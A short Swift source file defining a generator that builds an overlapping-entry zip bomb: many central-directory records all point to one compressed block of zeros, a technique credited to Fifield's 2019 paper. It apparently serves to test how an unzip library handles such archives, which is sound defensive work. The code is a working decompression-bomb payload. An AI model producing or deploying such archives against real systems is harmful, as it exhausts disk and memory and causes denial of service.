import Zip

/// A zip archive whose entries all mean the same packed bytes (after David Fifield, "A better zip bomb", 2019).
public enum OverlappingZip {
    /// An archive that names so many bytes of zeros so many times.
    public static func bytes(entries: Int, of count: Int) throws -> [UInt8] {
        var archive: [UInt8] = []
        try ZipWriter.write([ZipWriter.Entry(name: "0.txt", content: [UInt8](repeating: 0, count: count))], level: 9) {
            archive += $0
        }
        // One entry: its directory begins with its signature, and the end of the directory is the last 22 bytes.
        let end = archive.count - 22
        let start = (0..<end).last { archive[$0..<($0 + 4)].elementsEqual(little(UInt32(0x0201_4B50))) } ?? end
        let record = Array(archive[start..<end])
        archive.removeSubrange(start...)
        for _ in 0..<entries { archive += record }
        let size = little(UInt32(record.count * entries))
        let number = little(UInt16(entries))
        return archive + little(UInt32(0x0605_4B50)) + little(UInt32(0)) + number + number + size + little(UInt32(start))
            + little(UInt16(0))
    }
}
